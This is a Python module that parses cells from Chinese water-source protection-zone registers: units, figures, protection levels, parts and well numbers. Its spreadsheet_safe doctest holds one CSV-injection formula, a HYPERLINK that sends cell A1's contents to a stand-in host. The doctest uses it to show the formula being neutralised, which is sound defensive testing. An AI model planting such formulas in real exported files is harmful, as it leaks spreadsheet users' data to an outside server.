"""Cells: headers, numbers, stated figures with their units, levels and parts.

Everything here reads one cell's text and either returns a typed value or
raises :class:`~geo.errors.ValueProblem` saying what was expected; the
readers place it at its file, row and column.
"""

from __future__ import annotations

import functools
import math
import re
import unicodedata
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation

from geo.columns import AREA_UNITS, LENGTH_UNITS, LEVELS, OTHER_LEVELS, PARTS
from geo.errors import ValueProblem
from geo.numerals import chinese_integer

__all__ = [
    "display_width",
    "inert",
    "spreadsheet_safe",
    "Figure",
    "fold",
    "parse_figure",
    "parse_level",
    "parse_number",
    "parse_part",
    "split_header",
    "split_part",
    "well_key",
]

#: A number as officers type it: plain, or with valid thousands groups ("1,099.0").
_NUMBER = re.compile(r"[+-]?(?:[1-9]\d{0,2}(?:,\d{3})+|\d+)(?:\.\d+)?|[+-]?\.\d+")
_ABOUT = re.compile(r"^(?:约为|大约|约|≈|~|～)")
#: What officers type in a cell for "no figure".
_NOTHING = frozenset({"-", "—", "——", "--", "/", "／", "\\", "无", "未列", "n/a", "na", "none"})
_SPACE = re.compile(r"\s+")
#: The longest number read from a cell: approvals print a handful of digits.
MAX_NUMBER_CHARS = 30
_BRACKET = re.compile(r"^(?P<base>.*?)[(\[【](?P<inside>[^()\[\]【】]*)[)\]】]$")


@functools.lru_cache(maxsize=1 << 16)  # pure, and cells repeat down a column
def fold(text: str) -> str:
    """NFKC, superscripts as digits, no spaces, lower case: the form headers and words are compared in.

    Examples
    --------
    >>> fold(" 保护区面积（ｋｍ² ）")
    '保护区面积(km2)'
    """
    text = unicodedata.normalize("NFKC", text or "")
    return _SPACE.sub("", text).lower()


def split_header(header: str) -> tuple[str, str]:
    """A header and the bracketed unit after it: "面积（公顷）" → ("面积", "公顷").

    Examples
    --------
    >>> split_header("保护区面积（km2）"), split_header("经度(°)"), split_header("纬度"), split_header("周长/m")
    (('保护区面积', 'km2'), ('经度', '°'), ('纬度', ''), ('周长', 'm'))
    """
    folded = fold(header)
    match = _BRACKET.match(folded)
    if match and match["base"]:
        return match["base"], match["inside"]
    base, slash, unit = folded.rpartition("/")  # "面积/km2"
    if slash and base and unit:
        return base, unit
    return folded, ""


@dataclass(frozen=True, slots=True)
class Figure:
    """A stated figure as printed: its number (decimals kept) and unit.

    ``per_unit`` is the unit in square metres (areas) or metres (lengths);
    ``base`` the figure in those units.
    """

    value: Decimal
    unit: str
    per_unit: Decimal
    #: No unit printed, in the cell or its header: the unit is the reader's (km², m; see geo.figureunits).
    assumed: bool = False

    @property
    def base(self) -> Decimal:
        return self.value * self.per_unit

    @property
    def places(self) -> int:
        """Decimals printed: 0.0028 → 4, 1099.0 → 1, 283 → 0."""
        return max(0, -self.value.as_tuple().exponent)


def parse_number(text: str, expected: str, *, allow_negative: bool = False) -> Decimal | None:
    """A number typed in a cell; None for an empty cell.

    Accepts full-width digits, "约"/"≈" before the number and thousands
    separators only where the groups are valid.  A comma elsewhere
    ("0,0157") is refused: it could be a decimal comma or a typing slip.

    Examples
    --------
    >>> parse_number("1,099.0", "a perimeter"), parse_number("约0.0028", "an area")
    (Decimal('1099.0'), Decimal('0.0028'))
    >>> parse_number("0,0157", "an area")
    Traceback (most recent call last):
    ...
    geo.errors.ValueProblem: expected an area, got '0,0157' (a comma inside a number: write a decimal point, 0.0157, or group thousands as 1,234.5)
    """
    folded = _ABOUT.sub("", fold(text).replace("，", ","))
    if not folded or folded in _NOTHING:
        return None
    if len(folded) > MAX_NUMBER_CHARS:
        raise ValueProblem(f"{expected}, of at most {MAX_NUMBER_CHARS} characters", text[:30] + "…")
    if not _NUMBER.fullmatch(folded):
        raise ValueProblem(expected, text, _comma_hint(folded))
    try:
        value = Decimal(folded.replace(",", ""))
    except InvalidOperation as exc:  # pragma: no cover - the pattern admits only numbers
        raise ValueProblem(expected, text) from exc
    if not math.isfinite(value) or (value < 0 and not allow_negative):
        raise ValueProblem(expected, text)
    return value


def _comma_hint(folded: str) -> str:
    if "," in folded and re.fullmatch(r"[\d,.]+", folded):
        dotted = folded.replace(",", ".", 1) if folded.count(",") == 1 and "." not in folded else None
        example = f", {dotted}" if dotted else ""
        return f" (a comma inside a number: write a decimal point{example}, or group thousands as 1,234.5)"
    return ""


@functools.lru_cache(maxsize=1 << 16)  # pure, and a register's figures repeat (equal radii, equal areas)
def parse_figure(text: str, header_unit: str, kind: str, expected: str) -> Figure | None:
    """A stated area or perimeter with its unit, from the cell or else the header.

    ``kind`` is "area" (default unit km²) or "length" (default m).

    Examples
    --------
    >>> f = parse_figure("2.8", "公顷", "area", "an area")
    >>> f.value, f.unit, f.base
    (Decimal('2.8'), '公顷', Decimal('28000.0'))
    >>> parse_figure("1.099km", "", "length", "a perimeter").base
    Decimal('1099.000')
    """
    units = AREA_UNITS if kind == "area" else LENGTH_UNITS
    default = "km²" if kind == "area" else "m"
    folded = _ABOUT.sub("", fold(text))
    if not folded or folded in _NOTHING:
        return None
    bracket = _BRACKETED.fullmatch(folded)
    if bracket and _unit_name(bracket[2], units):  # "188.4（m）"
        folded = bracket[1] + bracket[2]
    elif bracket:  # "0.0028km²（2826m²）": the figure, and the same in other units
        return _with_equivalent(bracket[1], bracket[2], text, header_unit, kind, expected)
    unit = header_unit
    for suffix, name in _SUFFIXES[kind]:
        if folded.endswith(suffix):
            unit, folded = name, folded[: -len(suffix)]
            break
    assumed = not unit
    unit = _unit_name(unit, units) if unit else default
    if unit is None:
        raise ValueProblem(f"{expected}, in {' / '.join(units)}", f"{text} ({header_unit})")
    try:
        value = parse_number(folded, expected)
    except ValueProblem as exc:  # named as the cell has it, not as folded to read it
        raise ValueProblem(exc.expected, text if exc.value == folded else text[:30] + "…", exc.hint) from None
    if value is None:
        raise ValueProblem(expected, text)
    if value <= 0:
        raise ValueProblem(f"{expected} above zero", text)
    return Figure(value, unit, units[unit], assumed)


_BRACKETED = re.compile(r"(.+?)\((.+)\)")


def _with_equivalent(before: str, inside: str, text: str, header_unit: str, kind: str, expected: str) -> Figure:
    """The figure before the brackets, where the one inside them is the same to the precision either is printed to."""
    try:
        first = parse_figure(before, header_unit, kind, expected)
    except ValueProblem as exc:  # the cell as written, not its folded part before the brackets
        raise ValueProblem(exc.expected, text, exc.hint) from None
    try:
        second = parse_figure(inside, header_unit, kind, expected)
    except ValueProblem:
        second = None
    if first is None or second is None:
        raise ValueProblem(expected, text)
    if not agree(first, second):
        raise ValueProblem(expected, text, f" (the figure in brackets, {inside}, differs from {before} before them)")
    return first


def agree(first: Figure, second: Figure) -> bool:
    """Whether two figures printed in different units are the same to the precision either is printed to."""
    slack = sum(Decimal(5).scaleb(f.value.as_tuple().exponent - 1) * f.per_unit for f in (first, second))
    return abs(first.base - second.base) <= slack


#: Unit spellings as they end a folded cell, longest first, for each kind of figure.
_SUFFIXES = {
    kind: sorted(((fold(name), name) for name in units), key=lambda pair: -len(pair[0]))
    for kind, units in (("area", AREA_UNITS), ("length", LENGTH_UNITS))
}


def _unit_name(unit: str, units: dict) -> str | None:
    folded = fold(unit)
    return next((name for name in units if fold(name) == folded), None)


_LEVEL_SPELLINGS = {
    fold(s): name for table in (LEVELS, OTHER_LEVELS) for name, spells in table.items() for s in (name, *spells)
}
#: Spellings long enough to be found inside other words ("一级" but not "一").
_LEVEL_INSIDE = tuple((s, name) for s, name in _LEVEL_SPELLINGS.items() if len(s) >= 2 and not s.isascii())
_PART_WORDS = sorted(
    ((fold(s), name) for name, spells in PARTS.items() for s in (name, *spells)), key=lambda p: -len(p[0])
)


def split_part(folded: str) -> tuple[str, str]:
    """Folded words less the part (水域, 陆域) they name, and that part: "一级保护区水域" → ("一级保护区", "水域").

    Examples
    --------
    >>> split_part("陆域二级保护区范围"), split_part("一级保护区")
    (('二级保护区范围', '陆域'), ('一级保护区', ''))
    """
    for word, name in _PART_WORDS:
        if not word.isascii() and word in folded:
            rest = folded.replace(word, "", 1)
            if any(other != name and w in rest for w, other in _PART_WORDS if not w.isascii()):
                return folded, ""  # "一级保护区（含水域和陆域）": both parts, the whole level
            return rest, name
    return folded, ""


#: Two levels in one cell: "一、二级", "一级和二级保护区", "Ⅰ、Ⅱ级".
TWO_LEVELS_RE = re.compile(
    r"(?:[一二12]|i{1,2}|[ⅰⅱ]|[ⅠⅡ])(?:级)?(?:保护区)?[、,/和及与]+(?:[二三23]|i{2,3}|[ⅱⅲ]|[ⅡⅢ])级"
)


@functools.lru_cache(maxsize=1 << 16)  # pure, and cells repeat down a column
def parse_level(text: str) -> tuple[str, str]:
    """The level and the part a level cell names: "陆域一级保护区" → ("一级", "陆域").

    Examples
    --------
    >>> parse_level("一级（陆域）"), parse_level("一级保护区水域"), parse_level("准保护区"), parse_level("监控区")
    (('一级', '陆域'), ('一级', '水域'), ('准保护区', ''), ('监控区', ''))
    """
    if TWO_LEVELS_RE.search(fold(text)):
        raise ValueProblem("one level a row (write a row for each level)", text)
    folded, part = split_part(re.sub(r"[()\[\]【】<>《》:,、]", "", fold(text)))
    level = _LEVEL_SPELLINGS.get(folded) or _LEVEL_SPELLINGS.get(folded.replace("保护区", ""))
    if level is None:
        # "饮用水水源一级保护区", "地下水二级保护区": one level named inside longer words.
        inside = {name for spelling, name in _LEVEL_INSIDE if spelling in folded}
        level = inside.pop() if len(inside) == 1 else None
    if level is None:
        names = " / ".join((*LEVELS, *OTHER_LEVELS))
        raise ValueProblem(f"a 保护区级别: {names} (with 水域 or 陆域 where the level is split)", text)
    return level, part


def parse_part(text: str) -> str:
    """A 分区 cell: 水域, 陆域, or any other name of a separate part, kept as written."""
    folded = fold(text)
    for word, name in _PART_WORDS:
        if folded == word:
            return name
    return unicodedata.normalize("NFKC", text).strip()


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def inert(text: str) -> str:
    r"""Text with control characters shown escaped (ESC as "\x1b"): safe for terminals, XML and workbooks.

    Examples
    --------
    >>> inert("北关\x1b[31m水源\x00")
    '北关\\x1b[31m水源\\x00'
    """
    return _CONTROL.sub(lambda m: f"\\x{ord(m[0]):02x}", text)


def is_inert(text: str) -> bool:
    r"""Whether ``text`` has no control character for :func:`inert` to escape (one pass over a long text).

    >>> is_inert("北关村 1#\n"), is_inert("北关\x1b[31m")
    (True, False)
    """
    return _CONTROL.search(text) is None


def display_width(text: str) -> int:
    """Columns ``text`` takes in a console or a spreadsheet: wide (CJK) characters count twice.

    >>> display_width("北关村 1#")
    9
    """
    import unicodedata

    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def spreadsheet_safe(text: str) -> str:
    r"""A text cell no spreadsheet takes for a formula (OWASP CSV injection: a quote before = + - @, tab, CR).

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x/?"&A1,"点击")'), spreadsheet_safe("北关"), spreadsheet_safe("-")
    ('\'=HYPERLINK("http://x/?"&A1,"点击")', '北关', "'-")
    """
    return "'" + inert(text) if text[:1] in _FORMULA_START else inert(text)


@functools.lru_cache(maxsize=1 << 16)  # pure, and cells repeat down a column
def well_key(well_no: str) -> str:
    """The well number in the form rules use ("1#"); "" for a single unnumbered well.

    Examples
    --------
    >>> well_key("2号井"), well_key("J-03"), well_key("三号井"), well_key("")
    ('2#', '3#', '3#', '')
    """
    digits = re.search(r"\d+", unicodedata.normalize("NFKC", well_no or ""))
    if digits:
        return f"{int(digits[0])}#"
    # In Chinese numerals: 一号井, 十二号, 三#.
    numeral = re.fullmatch(
        r"\s*([一二两三四五六七八九十百零〇]+)\s*(?:号|#|＃)?\s*(?:井|取水井|水源井|机井)?\s*", well_no or ""
    )
    value = chinese_integer(numeral[1]) if numeral else None
    return f"{value}#" if value else (well_no or "").strip()
